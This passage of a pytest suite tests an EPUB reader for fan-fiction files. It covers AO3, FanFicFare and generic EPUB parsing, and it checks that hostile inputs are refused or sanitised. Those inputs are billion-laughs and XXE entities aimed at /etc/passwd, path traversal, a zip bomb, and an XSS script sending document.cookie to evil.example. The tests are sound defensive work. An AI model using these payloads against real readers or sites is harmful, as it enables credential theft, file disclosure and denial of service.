"""The EPUB reader: AO3's EPUB download, real FanFicFare EPUBs, any other EPUB, hostile EPUBs.

AO3 EPUBs are rebuilt the way AO3's pipeline makes them (see ``epub_fixtures``); FanFicFare
EPUBs are generated for real by FanFicFare's offline test adapter; the shared corpus of AO3
HTML downloads, cut up the way calibre cuts them, must read exactly as the HTML reader
reads the originals.
"""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ficsift.model import Document, Status, TagType
from ficsift.read import Limits, ReadError, read_bytes
from ficsift.read.base import RawFile, pick_reader
from ficsift.read.epub import EpubReader
from ficsift.read.fields import work_key_for
from tests.conftest import CORPUS
from tests.read.epub_fixtures import (
    BILLION_LAUGHS,
    XHTML_TYPE,
    Ao3Chapter,
    ao3_epub,
    ao3_html_download,
    epub_bytes,
    epub_from_ao3_html,
    fanficfare_epubs,
    lighthouse_work,
    nav_xhtml,
    ncx_xml,
    opf_xml,
    paragraphs,
    read_member,
    replace_members,
    simple_epub,
    xhtml,
)


def read_one(name: str, data: bytes, limits: Limits | None = None) -> Document:
    docs = read_bytes(name, data, limits or Limits())
    assert len(docs) == 1
    assert docs[0].source.format == "epub"
    return docs[0]


def names(doc: Document, tag_type: TagType) -> list[str]:
    return [t.name for t in doc.tags_of(tag_type)]


# --- sniffing ------------------------------------------------------------------------------


def test_epub_is_picked_by_content_not_name() -> None:
    data = simple_epub([("One", paragraphs("Some text here."))])
    assert pick_reader(RawFile("book.epub", data)) is EpubReader
    # The stored "mimetype" member at the start marks an EPUB whatever the file is called.
    assert pick_reader(RawFile("download.bin", data)) is EpubReader
    assert EpubReader.sniff(RawFile("notes.txt", b"just words")) == 0


# --- AO3 -----------------------------------------------------------------------------------


def test_ao3_epub_preface_tags_and_work_key() -> None:
    doc = read_one("lighthouse.epub", ao3_epub(lighthouse_work()))
    assert doc.extra["epub_flavour"] == "ao3"
    assert doc.title == "The Lighthouse Ledger"
    assert doc.authors == ["quillfeather"]
    assert names(doc, TagType.RATING) == ["General Audiences"]
    assert names(doc, TagType.WARNING) == ["No Archive Warnings Apply"]
    assert names(doc, TagType.CATEGORY) == ["F/F"]
    assert names(doc, TagType.FANDOM) == ["Buffy the Vampire Slayer (TV)"]
    assert names(doc, TagType.RELATIONSHIP) == ["Tara Maclay/Willow Rosenberg"]
    assert names(doc, TagType.CHARACTER) == ["Willow Rosenberg", "Tara Maclay"]
    # A tag with a comma in it stays one tag (AO3 tags are links, not a comma list).
    assert names(doc, TagType.FREEFORM) == ["Fluff", "Hurt/Comfort, sort of", "Lighthouses"]
    assert doc.language == "English"
    assert [(s.name, s.part) for s in doc.series] == [("Small Hours", 2)]
    assert doc.source.url == "https://archiveofourown.org/works/31415926"
    assert doc.source.work_key == "ao3:31415926"
    assert doc.summary == "Willow keeps the ledger. Tara keeps the light."
    assert doc.notes == ["Written for the winter swap. Thank you, mods!"]
    assert doc.end_notes == ["More soon, I promise."]
    assert (doc.published, doc.updated) == ("2021-03-03", "2021-04-01")
    assert (doc.stats.words, doc.stats.chapters_posted, doc.stats.chapters_total) == (1234, 2, 3)
    assert doc.status == Status.IN_PROGRESS


def test_ao3_epub_chapters_notes_and_split_chapter() -> None:
    work = lighthouse_work()
    # Chapter 2 is long enough that calibre split it over two files.
    doc = read_one("lighthouse.epub", ao3_epub(work, flow_split=[2]))
    assert [c.title for c in doc.chapters] == ["Chapter 1: Salt", "Chapter 2: Tide"]
    one, two = doc.chapters
    assert one.summary == "The first storm of the season."
    assert one.notes == ["This one is short."]
    assert one.end_notes == ["Salt is a metaphor. Probably."]
    assert one.text.startswith("The ledger smelled of salt")
    assert "\u201cSeventeen ships,\u201d" in one.text
    assert "<p>" in one.html
    # Both halves of chapter 2, in order, and its end notes after the second half.
    assert two.text.split("\n\n") == work.chapters[1].paragraphs
    assert two.end_notes == ["Tide tables are harder than they look."]
    # Preface and afterword text is not story text.
    assert "Posted originally" not in doc.text and "drop by the archive" not in doc.text


def test_ao3_epub_reads_like_the_ao3_html_download() -> None:
    work = lighthouse_work()
    from_epub = read_one("w.epub", ao3_epub(work, flow_split=[1, 2]))
    from_html = read_bytes("w.html", ao3_html_download(work).encode("utf-8"))[0]
    assert from_html.source.format == "ao3-html"
    assert [(c.title, c.text, c.notes, c.end_notes) for c in from_epub.chapters] == [
        (c.title, c.text, c.notes, c.end_notes) for c in from_html.chapters
    ]
    epub_json, html_json = from_epub.to_json(), from_html.to_json()
    epub_json.pop("source"), html_json.pop("source")
    assert epub_json == html_json


def test_ao3_epub_single_chapter_complete_work() -> None:
    work = lighthouse_work()
    work.chapters = [
        Ao3Chapter(title="unused", paragraphs=["Just the one scene.", "And a second line."])
    ]
    work.updated, work.completed, work.chapter_total = None, "2021-03-04", "1"
    doc = read_one("one.epub", ao3_epub(work))
    assert len(doc.chapters) == 1
    assert doc.chapters[0].text == "Just the one scene.\n\nAnd a second line."
    assert doc.status == Status.COMPLETE
    assert doc.completed == "2021-03-04"


FILES = sorted((CORPUS / "ao3-html").glob("*.html"))


@pytest.mark.parametrize("path", FILES, ids=[p.name for p in FILES])
def test_real_ao3_downloads_as_calibre_epubs_read_like_the_html(path: Path) -> None:
    markup = path.read_text(encoding="utf-8")
    from_html = read_bytes(path.name, markup.encode("utf-8"))[0]
    from_epub = read_one(path.stem + ".epub", epub_from_ao3_html(markup, path.stem))
    assert from_epub.extra["epub_flavour"] == "ao3"
    assert from_epub.source.work_key == from_html.source.work_key is not None
    assert [c.text for c in from_epub.chapters] == [c.text for c in from_html.chapters]
    assert [c.html for c in from_epub.chapters] == [c.html for c in from_html.chapters]
    epub_json, html_json = from_epub.to_json(), from_html.to_json()
    epub_json.pop("source"), html_json.pop("source")
    assert epub_json == html_json


def test_corpus_is_there() -> None:
    assert len(FILES) >= 10, f"AO3 HTML corpus missing under {CORPUS}"


# --- FanFicFare ----------------------------------------------------------------------------

PERSONAL_INI = r"""
[teststory:1001]
title:Harbour Lights
author_list:Mara Lind
storyUrl:https://archiveofourown.org/works/4242424
status:Completed
category_list:Original Work
genre_list:Hurt/Comfort\, sort of,Fluff
characters_list:Anna,Bea
ships_list:Anna/Bea
chaptertitles:Chapter One,Chapter Two

[teststory:1002]
title:Rain on Privet Drive
author_list:Ink Well
storyUrl:https://www.fanfiction.net/s/7654321/1/Rain-on-Privet-Drive
status:In-Progress
language:English
category_list:Harry Potter
chaptertitles:Storm,After
"""


@pytest.fixture(scope="module")
def fff(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    pytest.importorskip("fanficfare")
    runs = {
        "wip": ("http://test1.com?sid=1", {}),
        "epub3": (
            "http://test1.com?sid=2",
            {
                "epub_version": "3.0",
                "include_tocpage": "true",
                "include_logpage": "true",
                "titlepage_use_table": "true",
            },
        ),
        "ao3": ("http://test1.com?sid=1001", {}),
        "ffn": ("http://test1.com?sid=1002", {}),
    }
    paths = fanficfare_epubs(tmp_path_factory.mktemp("fff"), runs, PERSONAL_INI)
    return {name: path.read_bytes() for name, path in paths.items()}


def test_fanficfare_title_page_fields(fff: dict[str, bytes]) -> None:
    doc = read_one("wip.epub", fff["wip"])
    assert doc.extra["epub_flavour"] == "fanficfare"
    assert doc.title == "Test Story Title 1"
    assert doc.authors == ["Test Author aa"]
    assert doc.status == Status.IN_PROGRESS  # odd test1 sids are in progress
    # FanFicFare's "Category" is the fandom (as on FFN); labels keep the title page's words.
    assert "Harry Potter" in names(doc, TagType.FANDOM)
    assert {t.label for t in doc.tags_of(TagType.FANDOM)} == {"Category"}
    assert names(doc, TagType.CHARACTER) == ["Bob Smith", "Fred Smythe", "George Johnson"]
    assert "Harry Potter/Ginny Weasley" in names(doc, TagType.RELATIONSHIP)
    # FanFicFare double-escapes "&" in dc:subject; the title page's single tag wins, once.
    assert names(doc, TagType.RELATIONSHIP).count("Harry Potter & Hermione Granger") == 1
    assert names(doc, TagType.RATING) == ["Tweenie"]
    assert names(doc, TagType.WARNING) == ["Swearing", "Violence"]
    assert names(doc, TagType.FREEFORM) == ["Comedy", "Fantasy", "Noir", "Sci-Fi"]
    assert [(s.name, s.part) for s in doc.series] == [("The Great Test", 1)]
    assert (doc.published, doc.updated) == ("1975-03-15", "1975-04-15")
    assert (doc.stats.words, doc.stats.chapters_posted) == (123456, 9)
    assert doc.summary is not None and doc.summary.startswith("Description tests:")
    # Not an AO3/FFN URL: the URL itself is the work's identity.
    assert doc.source.url == doc.source.work_key == "http://test1.com?sid=1"


def test_fanficfare_chapters_from_the_spine(fff: dict[str, bytes]) -> None:
    doc = read_one("wip.epub", fff["wip"])
    titles = [c.title for c in doc.chapters]
    assert len(titles) == 9
    assert titles[1:4] == [
        "Chapter 1, Xenos on Cinnabar",
        "Chapter 2, Sinmay on Kintikin",
        'Chapter 3, "Over" Cinnabar',
    ]
    assert titles[-1] == "Chapter 8"
    second = doc.chapters[1]
    # The fff_chapter_title heading is the title, not text; the site's own heading stays.
    assert not second.text.startswith("Chapter 1, Xenos")
    assert second.text.startswith("Chapter title from site")
    assert "Lorem" in second.text and "<i>italics</i>" in second.html
    assert "Title Page" not in doc.text and "Packaged" not in doc.text


def test_fanficfare_epub3_with_toc_log_and_table_title_page(fff: dict[str, bytes]) -> None:
    doc = read_one("epub3.epub", fff["epub3"])
    assert doc.extra["epub_flavour"] == "fanficfare"
    assert doc.status == Status.COMPLETE  # even test1 sids are complete
    assert len(doc.chapters) == 9  # title, contents and update-log pages are not chapters
    assert "Update Log" not in doc.text and "Table of Contents" not in doc.text
    assert names(doc, TagType.CHARACTER) == ["Bob Smith", "Fred Smythe", "George Johnson"]
    assert [(s.name, s.part) for s in doc.series] == [("The Great Test", 2)]
    assert doc.stats.words == 123456


def test_fanficfare_ao3_source_and_comma_tags(fff: dict[str, bytes]) -> None:
    doc = read_one("ao3.epub", fff["ao3"])
    assert doc.source.url == "https://archiveofourown.org/works/4242424"
    assert doc.source.work_key == "ao3:4242424"
    assert doc.title == "Harbour Lights" and doc.authors == ["Mara Lind"]
    assert doc.status == Status.COMPLETE
    assert names(doc, TagType.FANDOM) == ["Original Work"]
    assert names(doc, TagType.RELATIONSHIP) == ["Anna/Bea"]
    # "Genre: Fluff, Hurt/Comfort, sort of" — dc:subject shows which comma is inside a tag.
    assert sorted(names(doc, TagType.FREEFORM)) == ["Fluff", "Hurt/Comfort, sort of"]
    assert [c.title for c in doc.chapters] == ["Chapter One", "Chapter Two"]


def test_fanficfare_ffn_source(fff: dict[str, bytes]) -> None:
    doc = read_one("ffn.epub", fff["ffn"])
    assert doc.source.work_key == "ffn:7654321"
    assert doc.status == Status.IN_PROGRESS
    assert doc.language == "English"
    assert [c.title for c in doc.chapters] == ["Storm", "After"]


def test_fanficfare_ao3_chapter_notes(fff: dict[str, bytes]) -> None:
    """FanFicFare's AO3 adapter wraps AO3's notes in div.fff_chapter_notes (base_otw_adapter)."""
    epub = fff["ao3"]
    first = read_member(epub, "OEBPS/file0001.xhtml")
    head = (
        '<div class="fff_chapter_notes fff_head_notes"><b>Author\'s Note:</b>'
        '<blockquote class="userstuff"><p>For the swap.</p></blockquote>'
        '<b>Summary for the Chapter:</b><blockquote class="userstuff"><p>Anna arrives.</p></blockquote>'
        '<b>Notes for the Chapter:</b><blockquote class="userstuff"><p>Short one.</p></blockquote></div>'
    )
    foot = (
        '<div class="fff_chapter_notes fff_foot_notes"><b>Notes for the Chapter:</b>'
        '<blockquote class="userstuff"><p>Thanks for reading.</p></blockquote></div>'
    )
    first = first.replace("<div>", head + "<div>", 1).replace("</body>", foot + "</body>")
    last = read_member(epub, "OEBPS/file0002.xhtml").replace(
        "</body>",
        '<div class="fff_chapter_notes fff_foot_notes"><b>Author\'s Note:</b>'
        '<blockquote class="userstuff"><p>The end, for now.</p></blockquote></div></body>',
    )
    doc = read_one(
        "notes.epub",
        replace_members(epub, {"OEBPS/file0001.xhtml": first, "OEBPS/file0002.xhtml": last}),
    )
    one = doc.chapters[0]
    assert doc.notes == ["For the swap."]
    assert one.summary == "Anna arrives."
    assert one.notes == ["Short one."]
    assert one.end_notes == ["Thanks for reading."]
    assert doc.end_notes == ["The end, for now."]
    assert "Anna arrives" not in doc.text and "Thanks for reading" not in doc.text


# --- any other EPUB ------------------------------------------------------------------------


def generic_epub3() -> bytes:
    """EPUB 3 in OEBPS/: nav, cover, title page, copyright, two chapters (one split in two)."""
    files: dict[str, bytes | str] = {
        "OEBPS/nav.xhtml": nav_xhtml(
            [
                ("Cover", "cover.xhtml"),
                ("Title Page", "title.xhtml"),
                ("Chapter One: Arrival", "text/ch1.xhtml"),
                ("Chapter Two: Departure", "text/ch2.xhtml#start"),
            ],
            landmarks=[("cover", "cover.xhtml"), ("bodymatter", "text/ch1.xhtml")],
        ),
        "OEBPS/cover.xhtml": xhtml('<div><img src="images/cover.jpg" alt="cover"/></div>'),
        "OEBPS/title.xhtml": xhtml(
            "<h1>The Quiet Harbour</h1><p>by Mara Lind</p><p>Rating: Teen</p><p>Pairing: Anna/Bea</p>"
        ),
        "OEBPS/copyright.xhtml": xhtml(
            "<p>Copyright \u00a9 2020 Mara Lind. All rights reserved.</p>"
        ),
        "OEBPS/text/ch1.xhtml": xhtml(
            "<h1>Chapter One: Arrival</h1>"
            + paragraphs(
                "A/N: Thanks to my beta, who caught every comma.",
                "The ferry came in late, and Anna was the last one off it.",
                "Bea was waiting with two coffees and no umbrella.",
            )
        ),
        "OEBPS/text/ch2.xhtml": xhtml(
            '<h1 id="start">Chapter Two: Departure</h1>'
            + paragraphs("Morning took its time over the harbour.")
        ),
        # calibre split chapter two here: no heading, no contents entry of its own
        "OEBPS/text/ch2b.xhtml": xhtml(
            paragraphs("By noon the boats were gone.", "Author's note: more soon, I hope!")
        ),
        "OEBPS/images/cover.jpg": b"\xff\xd8\xff\xe0 not really a jpeg",
    }
    items = [
        ("nav", "nav.xhtml", XHTML_TYPE),
        ("cover", "cover.xhtml", XHTML_TYPE),
        ("title", "title.xhtml", XHTML_TYPE),
        ("copy", "copyright.xhtml", XHTML_TYPE),
        ("ch1", "text/ch1.xhtml", XHTML_TYPE),
        ("ch2", "text/ch2.xhtml", XHTML_TYPE),
        ("ch2b", "text/ch2b.xhtml", XHTML_TYPE),
        ("img", "images/cover.jpg", "image/jpeg"),
    ]
    files["OEBPS/package.opf"] = opf_xml(
        title="The Quiet Harbour",
        authors=["Mara Lind", "J. Ferris"],
        items=items,
        spine=["cover", "nav", "title", "copy", "ch1", "ch2", "ch2b"],
        version="3.0",
        description="<p>A <i>quiet</i> story about&nbsp;boats.</p>",
        subjects=["Romance", "Slow Burn", "Complete"],
        dates={"": "2020-05-01T00:00:00+00:00"},
        sources=["https://example.org/stories/quiet-harbour"],
        properties={"nav": "nav", "img": "cover-image"},
        toc=None,
    )
    return epub_bytes(files, opf_path="OEBPS/package.opf")


def test_generic_epub_metadata() -> None:
    doc = read_one("harbour.epub", generic_epub3())
    assert doc.extra["epub_flavour"] == "generic"
    assert doc.title == "The Quiet Harbour"
    assert doc.authors == ["Mara Lind", "J. Ferris"]
    assert doc.summary == "A quiet story about boats."
    assert names(doc, TagType.FREEFORM) == ["Romance", "Slow Burn"]
    assert doc.status == Status.COMPLETE  # a status word in dc:subject is no tag
    assert doc.language == "en"
    assert doc.published == "2020-05-01"
    assert doc.source.url == doc.source.work_key == "https://example.org/stories/quiet-harbour"
    # Labelled lines on the title page go through the shared field table.
    assert names(doc, TagType.RATING) == ["Teen"]
    assert names(doc, TagType.RELATIONSHIP) == ["Anna/Bea"]


def test_generic_epub_chapters_skip_front_matter_and_join_split_files() -> None:
    doc = read_one("harbour.epub", generic_epub3())
    assert [c.title for c in doc.chapters] == ["Chapter One: Arrival", "Chapter Two: Departure"]
    one, two = doc.chapters
    assert one.notes == ["Thanks to my beta, who caught every comma."]
    assert one.text == (
        "The ferry came in late, and Anna was the last one off it.\n\n"
        "Bea was waiting with two coffees and no umbrella."
    )
    assert two.text == "Morning took its time over the harbour.\n\nBy noon the boats were gone."
    assert two.end_notes == ["more soon, I hope!"]
    for front in ("Copyright", "Rating: Teen", "Chapter One: Arrival", "Title Page"):
        assert front not in doc.text


def test_generic_single_file_with_fragment_toc() -> None:
    story = xhtml(
        '<h2 id="c1">The First</h2>'
        + paragraphs("Alpha begins the tale.", "Alpha ends it too.")
        + '<p><a id="c2"/>Beta starts mid-paragraph anchor.</p>'
        + paragraphs("Beta goes on.")
        + '<h2 id="c3">The Third</h2>'
        + paragraphs("Gamma closes.")
    )
    files = {
        "story.xhtml": story,
        "toc.ncx": ncx_xml(
            [
                ("1. The First", "story.xhtml#c1"),
                ("2. Second", "story.xhtml#c2"),
                ("3. The Third", "story.xhtml#c3"),
            ]
        ),
        "content.opf": opf_xml(
            title="Three in One",
            authors=["A. Author"],
            items=[
                ("s", "story.xhtml", XHTML_TYPE),
                ("ncx", "toc.ncx", "application/x-dtbncx+xml"),
            ],
            spine=["s"],
        ),
    }
    doc = read_one("three.epub", epub_bytes(files))
    assert [c.title for c in doc.chapters] == ["1. The First", "2. Second", "3. The Third"]
    assert [c.text for c in doc.chapters] == [
        "Alpha begins the tale.\n\nAlpha ends it too.",
        "Beta starts mid-paragraph anchor.\n\nBeta goes on.",
        "Gamma closes.",
    ]


def test_generic_single_file_without_toc_finds_chapters_in_the_text() -> None:
    body = paragraphs(
        "Disclaimer: I don't own them, I just borrow them.",
        "Chapter 1",
        "The rain started on a Tuesday.",
        "It did not stop for a week.",
        "Chapter 2",
        "On Wednesday the river rose.",
        "The End",
    )
    files = {
        "content.opf": opf_xml(
            title="Rain", items=[("s", "s.xhtml", XHTML_TYPE)], spine=["s"], toc=None
        ),
        "s.xhtml": xhtml(body),
    }
    doc = read_one("rain.epub", epub_bytes(files))
    assert [c.title for c in doc.chapters] == ["Chapter 1", "Chapter 2"]
    assert doc.chapters[1].text == "On Wednesday the river rose."
    assert doc.disclaimer is not None and "don't own them" in doc.disclaimer
    assert doc.status == Status.COMPLETE


def test_generic_single_file_split_at_html_headings() -> None:
    body = (
        "<h2>Chapter 1: Frost</h2>"
        + paragraphs("Short first chapter.", "It has two paragraphs.")
        + "<h2>Chapter 2: Thaw</h2>"
        + paragraphs("The second one.")
        + "<h2>Chapter 3: Spring</h2>"
        + paragraphs("And the third.")
    )
    files = {
        "content.opf": opf_xml(
            title="Seasons", items=[("s", "s.xhtml", XHTML_TYPE)], spine=["s"], toc=None
        ),
        "s.xhtml": xhtml(body),
    }
    doc = read_one("seasons.epub", epub_bytes(files))
    assert [c.title for c in doc.chapters] == [
        "Chapter 1: Frost",
        "Chapter 2: Thaw",
        "Chapter 3: Spring",
    ]
    assert doc.chapters[0].text == "Short first chapter.\n\nIt has two paragraphs."
    assert doc.notes == []


def test_generic_nested_toc_parts_are_not_chapters() -> None:
    files: dict[str, bytes | str] = {
        "part1.xhtml": xhtml("<h1>Part One</h1>"),
        "c1.xhtml": xhtml("<h2>One</h2>" + paragraphs("First chapter text.")),
        "c2.xhtml": xhtml("<h2>Two</h2>" + paragraphs("Second chapter text.")),
        "toc.ncx": ncx_xml(
            [("Part One", "part1.xhtml")],
            nested={0: [("One", "c1.xhtml"), ("Two", "c2.xhtml")]},
        ),
        "content.opf": opf_xml(
            title="Parts",
            items=[
                ("p1", "part1.xhtml", XHTML_TYPE),
                ("c1", "c1.xhtml", XHTML_TYPE),
                ("c2", "c2.xhtml", XHTML_TYPE),
                ("ncx", "toc.ncx", "application/x-dtbncx+xml"),
            ],
            spine=["p1", "c1", "c2"],
        ),
    }
    doc = read_one("parts.epub", epub_bytes(files))
    assert [(c.title, c.text) for c in doc.chapters] == [
        ("One", "First chapter text."),
        ("Two", "Second chapter text."),
    ]


def test_generic_files_without_toc_are_chapters_each() -> None:
    files = {
        "content.opf": opf_xml(
            title="Loose Leaves",
            items=[(f"f{n}", f"f{n}.xhtml", XHTML_TYPE) for n in range(3)],
            spine=[f"f{n}" for n in range(3)] + ["f9:no"],
            toc=None,
        ),
        **{f"f{n}.xhtml": xhtml(paragraphs(f"Leaf number {n} falls.")) for n in range(3)},
    }
    files["content.opf"] = files["content.opf"].replace(
        "</manifest>", f'<item id="f9" href="notes.xhtml" media-type="{XHTML_TYPE}"/></manifest>'
    )
    files["notes.xhtml"] = xhtml(paragraphs("Non-linear footnotes, not story."))
    doc = read_one("leaves.epub", epub_bytes(files))
    assert [c.text for c in doc.chapters] == [f"Leaf number {n} falls." for n in range(3)]
    assert "footnotes" not in doc.text


def test_xhtml_quirks_self_closing_title_and_legacy_encoding() -> None:
    cp1252 = (
        "<?xml version='1.0' encoding='windows-1252'?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\">"
        "<head><title/></head><body><div/><p>Caf\u00e9 au lait, na\u00efve \u2014 still here.</p></body></html>"
    ).encode("cp1252")
    data = simple_epub([("Only", "")], title="Quirks")
    data = replace_members(data, {"text/chapter01.xhtml": cp1252})
    doc = read_one("quirks.epub", data)
    assert doc.chapters[0].text == "Caf\u00e9 au lait, na\u00efve \u2014 still here."


def test_work_keys_from_urls() -> None:
    assert work_key_for("http://archiveofourown.org/works/37317859") == "ao3:37317859"
    assert work_key_for("https://archiveofourown.org/works/123/chapters/456") == "ao3:123"
    assert work_key_for("https://archiveofourown.org/collections/swap/works/77") == "ao3:77"
    assert work_key_for("https://m.fanfiction.net/s/1234/3/Title") == "ffn:1234"
    assert work_key_for("https://example.org/story?id=9") == "https://example.org/story?id=9"


# --- broken and hostile EPUBs --------------------------------------------------------------


def expect_error(
    data: bytes, *fragments: str, name: str = "bad.epub", limits: Limits | None = None
) -> str:
    with pytest.raises(ReadError) as info:
        read_bytes(name, data, limits or Limits())
    message = str(info.value)
    assert "\n" not in message and "reader failed" not in message, message
    for fragment in fragments:
        assert fragment in message, message
    return message


def test_not_a_zip() -> None:
    expect_error(b"\x00\x01\x02\x03 this is no zip at all \xff\xfe" * 10, "not a zip archive")


def test_truncated_epub() -> None:
    data = simple_epub([("One", paragraphs("Text " * 200))])
    expect_error(data[: len(data) // 2], "corrupt EPUB", "truncated")


def test_missing_container_opf_and_spine() -> None:
    chapter = xhtml(paragraphs("Words."))
    opf = opf_xml(title="T", items=[("a", "a.xhtml", XHTML_TYPE)], spine=["a"])
    expect_error(
        epub_bytes({"content.opf": opf, "a.xhtml": chapter}, container=""),
        "EPUB has no container.xml",
    )
    expect_error(epub_bytes({"a.xhtml": chapter}), "names 'content.opf', which is missing")
    empty_spine = opf_xml(title="T", items=[("a", "a.xhtml", XHTML_TYPE)], spine=[])
    expect_error(
        epub_bytes({"content.opf": empty_spine, "a.xhtml": chapter}), "EPUB spine is empty"
    )
    expect_error(
        epub_bytes({"content.opf": "<package><metadata>", "a.xhtml": chapter}),
        "corrupt EPUB",
        "not well-formed",
    )
    gone = opf_xml(title="T", items=[("a", "missing.xhtml", XHTML_TYPE)], spine=["a"])
    expect_error(
        epub_bytes({"content.opf": gone}), "no readable content documents", "missing.xhtml"
    )


@pytest.mark.parametrize("where", ["content.opf", "META-INF/container.xml", "toc.ncx"])
def test_entity_declarations_are_refused(where: str) -> None:
    data = simple_epub([("One", paragraphs("Fine text."))])
    original = read_member(data, where)
    prolog_end = original.index("?>") + 2
    # Swap any DOCTYPE for the billion-laughs one and use the entity where text goes.
    body = original[prolog_end:]
    if body.lstrip().startswith("<!DOCTYPE"):
        body = body[body.index(">", body.index("<!DOCTYPE")) + 1 :]
    hostile = (
        original[:prolog_end]
        + "\n"
        + BILLION_LAUGHS
        + body.replace("Book", "&lol9;", 1).replace("A Simple Book", "&lol9;")
    )
    started = time.monotonic()
    expect_error(
        replace_members(data, {where: hostile}), "EPUB refused: XML entity declarations", where
    )
    assert time.monotonic() - started < 2


def test_external_entities_are_refused() -> None:
    data = simple_epub([("One", paragraphs("Fine text."))])
    opf = (
        read_member(data, "content.opf")
        .replace(
            "<package",
            '<!DOCTYPE package [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<package',
            1,
        )
        .replace("A Simple Book", "&xxe;")
    )
    message = expect_error(replace_members(data, {"content.opf": opf}), "EPUB refused")
    assert "root:" not in message


def test_html_entities_in_the_opf_are_tolerated() -> None:
    data = simple_epub([("One", paragraphs("Fine text."))], title="Caf&eacute;&nbsp;Nights")
    opf = read_member(data, "content.opf").replace(
        "Caf&amp;eacute;&amp;nbsp;Nights", "Caf&eacute;&nbsp;Nights"
    )
    doc = read_one("cafe.epub", replace_members(data, {"content.opf": opf}))
    assert doc.title == "Caf\u00e9 Nights"  # &nbsp; is whitespace in a title


def test_paths_out_of_the_archive_are_refused_per_item(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    evil = xhtml(paragraphs("EVIL CONTENT that must never be read"))
    data = simple_epub(
        [
            ("Good One", paragraphs("The good chapter is read.")),
            ("Good Two", paragraphs("So is this one.")),
        ],
        spine_extra=[("p", "../../etc/passwd"), ("e", "../evil.txt"), ("a", "/abs.txt")],
        extra=[("../evil.txt", evil), ("/abs.txt", evil)],
    )
    doc = read_one("traversal.epub", data)
    assert [c.title for c in doc.chapters] == ["Good One", "Good Two"]
    assert "EVIL" not in doc.text and "root:" not in doc.text
    warnings = doc.extra["warnings"]
    assert any("../../etc/passwd" in w and "outside the EPUB" in w for w in warnings)
    assert any("../evil.txt" in w for w in warnings) and any("/abs.txt" in w for w in warnings)
    # Nothing was written anywhere: no extraction, not even next to the work folder.
    assert list(work.iterdir()) == []
    assert not (tmp_path / "evil.txt").exists()


def test_zip_bomb_chapter_is_refused_quickly(big_zeros_epub: bytes) -> None:
    started = time.monotonic()
    expect_error(big_zeros_epub, "too large")
    assert time.monotonic() - started < 3  # refused from the declared size, never inflated


def test_small_limits_refuse_large_and_high_ratio_members() -> None:
    data = simple_epub([("One", paragraphs("Words and more words. " * 2000))])
    expect_error(data, "too large", limits=Limits(max_archive_member=10_000))
    expect_error(data, "would unpack to", limits=Limits(max_archive_total=20_000))
    expect_error(data, "entries", limits=Limits(max_archive_members=3))
    zeros = simple_epub([("One", "<p>" + "0" * (3 << 20) + "</p>")])
    expect_error(zeros, "zip bomb")  # 3 MB that compresses 1000:1


@pytest.fixture(scope="module")
def big_zeros_epub() -> bytes:
    """A chapter of 200 MB of zeros, deflated to ~200 KB (written in chunks, never held)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/epub+zip", zipfile.ZIP_STORED)
        zf.writestr(
            "META-INF/container.xml",
            read_member(simple_epub([("x", "")]), "META-INF/container.xml"),
        )
        zf.writestr(
            "content.opf",
            opf_xml(title="Bomb", items=[("b", "bomb.xhtml", XHTML_TYPE)], spine=["b"], toc=None),
        )
        info = zipfile.ZipInfo("bomb.xhtml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as member:
            chunk = b"0" * (1 << 20)
            for _ in range(200):
                member.write(chunk)
    return buf.getvalue()


def test_scripts_handlers_and_javascript_links_are_sanitised() -> None:
    body = (
        "<script>document.location='http://evil.example/'+document.cookie</script>"
        '<p onclick="steal()">Hello <a href="javascript:alert(1)">click</a> there.</p>'
        '<p><img src="x.png" onerror="steal()"/> and an <iframe src="http://evil.example"></iframe>frame.</p>'
        '<p style="text-align:center">centred</p>'
    )
    data = simple_epub([("Sanitised", body)])
    data = replace_members(
        data,
        {
            "text/chapter01.xhtml": read_member(data, "text/chapter01.xhtml").replace(
                "<body>", '<body onload="steal()">'
            )
        },
    )
    doc = read_one("xss.epub", data)
    chapter = doc.chapters[0]
    for bad in (
        "<script",
        "onclick",
        "onload",
        "onerror",
        "javascript:",
        "<iframe",
        "steal()",
        "document.cookie",
    ):
        assert bad not in chapter.html.lower() and bad not in chapter.text.lower()
    assert "Hello" in chapter.text and "click" in chapter.html and "centred" in chapter.text


SMALL_EPUB = simple_epub(
    [
        ("One", paragraphs("The first chapter has words.")),
        ("Two", paragraphs("So does the second.")),
    ]
)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    cut=st.integers(min_value=0, max_value=len(SMALL_EPUB)),
    start=st.integers(min_value=0, max_value=len(SMALL_EPUB) - 1),
    junk=st.binary(min_size=1, max_size=64),
)
def test_damaged_epubs_only_ever_raise_read_error(cut: int, start: int, junk: bytes) -> None:
    for data in (SMALL_EPUB[:cut], SMALL_EPUB[:start] + junk + SMALL_EPUB[start + len(junk) :]):
        try:
            docs = read_bytes("damaged.epub", data)
        except ReadError as exc:
            assert "reader failed" not in str(exc) and "\n" not in str(exc), str(exc)
        else:
            assert docs and docs[0].has_text


def test_subjects_naming_characters_and_a_converters_unknown_author() -> None:
    """``dc:subject`` "Dean Winchester" is a character (a character's name also leads to her
    fandom, so it was typed a fandom); calibre's "Unknown" creator is no author."""
    story = paragraphs("The motel sign buzzed like a wasp all night long. " * 12)
    data = simple_epub(
        [("Part 1", story), ("Part 2", story)],
        authors=("Unknown",),
        subjects=("Supernatural (TV 2005)", "Dean Winchester", "Hurt/Comfort"),
    )
    doc = read_one("salt.epub", data)
    assert names(doc, TagType.FANDOM) == ["Supernatural (TV 2005)"]
    assert names(doc, TagType.CHARACTER) == ["Dean Winchester"]
    assert doc.authors == []


def test_an_introduction_page_of_fields_and_the_summary_is_no_chapter() -> None:
    """A first page holding the book's title, its byline, the summary the metadata already
    gives and labelled fields (FicHub's "Introduction") is a title page: its fields are read,
    it is no chapter."""
    summary = "After the war, Hermione takes the train north to find her parents. " * 6
    intro = (
        "<h1>The Long Way Home</h1><p>By: quillfeather</p>"
        f"<p>{summary.strip()}</p><p>Status: Complete</p><p>Words: 1,634</p>"
